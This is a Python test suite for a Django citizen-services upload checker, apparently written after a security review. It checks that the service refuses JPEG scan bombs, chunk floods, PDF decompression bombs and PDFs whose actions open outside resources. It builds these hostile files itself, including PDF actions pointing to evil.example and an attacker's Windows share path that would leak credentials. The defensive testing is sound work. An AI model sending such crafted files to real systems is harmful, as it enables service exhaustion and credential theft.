"""The work of checking a file is bounded: scans, parts and pixels are counted before anything is decoded.

Findings of a security review (issue #15, items 16 and 18): a 9000×9000 progressive JPEG of 436 KB whose last scan
was repeated 1,000 times took 47.7 s to check (about 47 ms a scan, so a 10 MB upload held a worker for an hour),
on every upload path, since the check limited pixels but not scans; and PDFs whose open action sends the reader to
a web page, to a file on another computer (a ``\\\\host\\share`` path hands over the officer's Windows credentials),
or plays a sound or film were accepted.
"""

import io
import json
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from eservices.models import OnlineService
from records import uploads
from records.models import Record

from . import files
from .test_upload_hardening import damaged_xref, pdf_with

pytestmark = pytest.mark.django_db

SCANS = "lớp (lượt quét JPEG)"
PIXELS = "quá nhiều điểm ảnh"
COMPLEX = "cấu trúc quá phức tạp"
OUTSIDE = "tự mở trang web, tệp trên máy khác, âm thanh hoặc phim khi được xem, nên không được nhận"


def progressive_jpeg(size=(2000, 2000), repeat_last_scan=0) -> bytes:
    """A progressive JPEG from Pillow (libjpeg's 10 scans in colour), its last scan then repeated, byte for byte,
    ``repeat_last_scan`` more times before the end of the image: every repeat is a full pass for the decoder."""
    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 180, 150)).save(buffer, "JPEG", progressive=True, quality=85)
    data = buffer.getvalue()
    last_scan, end = data.rindex(b"\xff\xda"), data.rindex(b"\xff\xd9")
    return data[:end] + data[last_scan:end] * repeat_last_scan + data[end:]


def check(name: str, content: bytes):
    return uploads.check_upload(SimpleUploadedFile(name, content))


def test_a_jpeg_repeating_its_last_scan_is_refused_by_its_scan_count_before_it_is_decoded():
    bomb = progressive_jpeg(repeat_last_scan=1_000)
    assert len(bomb) < 100 * 1024  # small enough for any upload form

    with pytest.raises(ValidationError) as refused:
        check("giay-to.jpg", bomb)

    message = refused.value.messages[0]
    # The number of scans could only come from the markers: the refusal is not a decoder's.
    assert f"Ảnh “giay-to.jpg” được lưu thành 1010 {SCANS}, trong khi ảnh thường có không quá 32" in message
    assert "không chọn “progressive”" in message and "rồi tải lên" in message


def test_the_scans_counted_are_those_of_the_picture_not_of_bytes_that_look_like_markers():
    """0xFF 0xDA inside a comment, or a second picture after the end (a phone's gain map), is no scan of it."""
    photo = progressive_jpeg(size=(64, 64))
    comment = b"\xff\xda" * 100
    with_comment = photo[:2] + b"\xff\xfe" + (len(comment) + 2).to_bytes(2, "big") + comment + photo[2:]
    with_second_picture = photo + progressive_jpeg(size=(64, 64), repeat_last_scan=100)

    assert uploads._jpeg_scans(photo) == 10
    assert uploads._jpeg_scans(with_comment) == 10
    assert uploads._jpeg_scans(with_second_picture) == 10
    for name, content in {"chu-thich.jpg": with_comment, "hai-anh.jpg": with_second_picture}.items():
        assert check(name, content)[0] == "image/jpeg"


def test_a_large_progressive_jpeg_is_held_to_the_memory_its_check_takes():
    """A picture of several scans keeps every coefficient in memory: 26 MP progressive is refused, while the same
    size written in one scan (decoded at 1/8 scale, in strips) and an ordinary progressive photo pass."""
    with pytest.raises(ValidationError, match=PIXELS):
        check("lon.jpg", progressive_jpeg(size=(5200, 5000)))
    baseline = io.BytesIO()
    Image.new("RGB", (5200, 5000), (200, 180, 150)).save(baseline, "JPEG")
    assert check("lon-thuong.jpg", baseline.getvalue())[0] == "image/jpeg"
    assert check("anh.jpg", progressive_jpeg(size=(3000, 4000)))[0] == "image/jpeg"


def test_pictures_of_too_many_parts_are_refused_unread():
    """Pillow reads every JPEG segment and PNG chunk in Python: 10 MB of empty ones held a check for 2–4 s."""
    jpeg = files.JPEG
    flooded_jpeg = jpeg[:2] + b"\xff\xfe\x00\x02" * (uploads.MAX_JPEG_SEGMENTS + 1) + jpeg[2:]
    png = files.PNG
    empty_chunk = b"\x00\x00\x00\x00aaAa" + zlib.crc32(b"aaAa").to_bytes(4, "big")
    flooded_png = png[:33] + empty_chunk * uploads.MAX_PNG_CHUNKS + png[33:]  # after the header chunk
    for name, content in {"nhieu-phan.jpg": flooded_jpeg, "nhieu-phan.png": flooded_png}.items():
        with pytest.raises(ValidationError, match=f"Ảnh “{name}” có {COMPLEX}"):
            check(name, content)
    # A PNG written in small chunks, as some tools do, still passes.
    some_chunks = png[:33] + empty_chunk * 500 + png[33:]
    assert check("it-phan.png", some_chunks)[0] == "image/png"


def test_a_damaged_pdf_full_of_names_is_checked_without_reading_them_one_by_one():
    """A 65 KB PDF with a broken cross-reference table and a stream inflating to 64 MB of "/a" took 24 s of CPU:
    the byte scan now searches for the names it cares about rather than collecting every name."""
    flood = zlib.compress(b"/a" * (32 * 1024 * 1024), 9)
    stream = b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(flood), flood)
    content = damaged_xref(files.build_pdf([*files.PAGE, stream]))
    assert len(content) < 100 * 1024
    assert check("nhieu-ten.pdf", content)[0] == "application/pdf"

    escaped = b"/Type /Page " + b"/a#61" * (uploads.MAX_PDF_ESCAPED_NAMES + 1)
    with pytest.raises(ValidationError, match=COMPLEX):
        check("ten-ma-hoa.pdf", damaged_xref(pdf_with(page_extra=escaped)))


# --- PDF actions that open something outside the file (item 18) ------------------------------------------------

OUTSIDE_ACTIONS = {
    "open-web-page": pdf_with(b"/OpenAction << /S /URI /URI (https://evil.example/track) >> "),
    "open-web-page-indirect": pdf_with(
        b"/OpenAction 4 0 R ", extra_objects=[b"<< /Type /Action /S /URI /URI (https://evil.example/) >>"]
    ),
    "web-page-after-first-action": pdf_with(
        b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /URI /URI (https://evil.example/) >>] >> "
    ),
    "web-page-when-page-shown": pdf_with(page_extra=b"/AA << /O << /S /URI /URI (https://evil.example/) >> >> "),
    "web-page-when-link-hovered": pdf_with(
        page_extra=b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /AA << /E 4 0 R >> >>] ",
        extra_objects=[b"<< /S /URI /URI (https://evil.example/) >>"],
    ),
    "windows-share": pdf_with(b"/OpenAction << /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\a.pdf) /D [0 /Fit] >> "),
    "windows-share-link": pdf_with(
        page_extra=b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (\\\\\\\\h\\\\s\\\\a.pdf) >> >>] "
    ),
    "file-link": pdf_with(
        page_extra=b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (file://attacker/share) >> >>] "
    ),
    "rendition": pdf_with(b"/OpenAction << /S /Rendition /OP 0 /AN 4 0 R >> "),
    "sound": pdf_with(b"/OpenAction << /S /Sound /Sound 4 0 R >> ", extra_objects=[b"<< /R 8000 >>"]),
    "hex-escaped-gotor": pdf_with(b"/OpenAction << /S /GoT#6fR /F (\\\\\\\\h\\\\s\\\\a.pdf) >> "),
}


@pytest.mark.parametrize("case", OUTSIDE_ACTIONS)
def test_pdfs_that_open_something_outside_by_themselves_are_refused(case):
    with pytest.raises(ValidationError) as refused:
        check("to-khai.pdf", OUTSIDE_ACTIONS[case])
    assert f"Tệp “to-khai.pdf” {OUTSIDE}" in refused.value.messages[0]
    assert "Hãy in lại thành PDF" in refused.value.messages[0]


@pytest.mark.parametrize("case", ["open-web-page", "windows-share", "sound", "file-link"])
def test_damaged_pdfs_that_open_something_outside_are_refused_too(case):
    with pytest.raises(ValidationError, match=OUTSIDE):
        check("to-khai.pdf", damaged_xref(OUTSIDE_ACTIONS[case]))


def test_a_link_the_officer_clicks_to_a_web_page_or_an_address_still_passes():
    for target in (b"https://dichvucong.gov.vn", b"http://example.vn/a", b"mailto:cong.dan@example.vn"):
        content = pdf_with(
            b"/OpenAction [3 0 R /Fit] ",
            b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (%s) >> >>] " % target,
        )
        assert check("lien-ket.pdf", content)[0] == "application/pdf"
        assert check("lien-ket.pdf", damaged_xref(content))[0] == "application/pdf"


# --- Every upload path shares the check -------------------------------------------------------------------------


def test_the_filing_api_refuses_the_scan_bomb_with_its_message(client, citizen):
    service = OnlineService.objects.get(slug="cap-doi-giay-phep-lai-xe")
    health = service.version.components.get(name__startswith="Giấy khám sức khỏe")
    response = client.post(
        "/api/v1/records/",
        {
            "service": service.slug,
            "data": json.dumps({"reason": "expired", "delivery": "online"}),
            "eligibility": json.dumps({"has_licence": True}),
            f"component_{health.pk}": SimpleUploadedFile("kham.jpg", progressive_jpeg(repeat_last_scan=1_000)),
        },
    )
    assert response.status_code == 400, response.content
    assert f"Ảnh “kham.jpg” được lưu thành 1010 {SCANS}" in str(response.json()["detail"])
    assert not Record.objects.get(pk=response.json()["draft"]).attachments.exists()


def pdf_with_object_stream(padding: int) -> bytes:
    """A PDF 1.5 whose object 4 sits in a compressed object stream followed by ``padding`` spaces, found through
    a cross-reference stream, as modern writers save objects."""
    held = b"4 0 "
    stream = zlib.compress(held + b"<< /Foo 1 >>" + b" " * padding, 9)
    out, offsets = bytearray(b"%PDF-1.5\n"), {}
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        5: b"<< /Type /ObjStm /N 1 /First %d /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream"
        % (len(held), len(stream), stream),
    }
    for number, body in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)

    def row(kind, first, second):
        return bytes([kind]) + first.to_bytes(4, "big") + second.to_bytes(2, "big")

    xref_at = len(out)
    rows = [row(0, 0, 65535), *(row(1, offsets[n], 0) for n in (1, 2, 3)), row(2, 5, 0), row(1, offsets[5], 0)]
    table = b"".join([*rows, row(1, xref_at, 0)])
    out += b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
        len(table),
        table,
    )
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % xref_at)


def test_a_pdf_whose_object_stream_inflates_past_the_budget_is_refused_before_it_is_parsed():
    """pyHanko inflates an object stream whole: a 1 MB file inflating to 1 GB took 2 GB of memory to check."""
    assert check("nen.pdf", pdf_with_object_stream(padding=1024))[0] == "application/pdf"
    bomb = pdf_with_object_stream(padding=uploads.PDF_OBJECT_STREAMS_INFLATE_LIMIT + 1)
    assert len(bomb) < 100 * 1024
    with pytest.raises(ValidationError, match=f"Tệp “bom.pdf” có {COMPLEX}"):
        check("bom.pdf", bomb)
    escaped = bomb.replace(b"/Type /ObjStm", b"/Type /Obj#53tm")
    with pytest.raises(ValidationError, match=COMPLEX):
        check("bom.pdf", escaped)
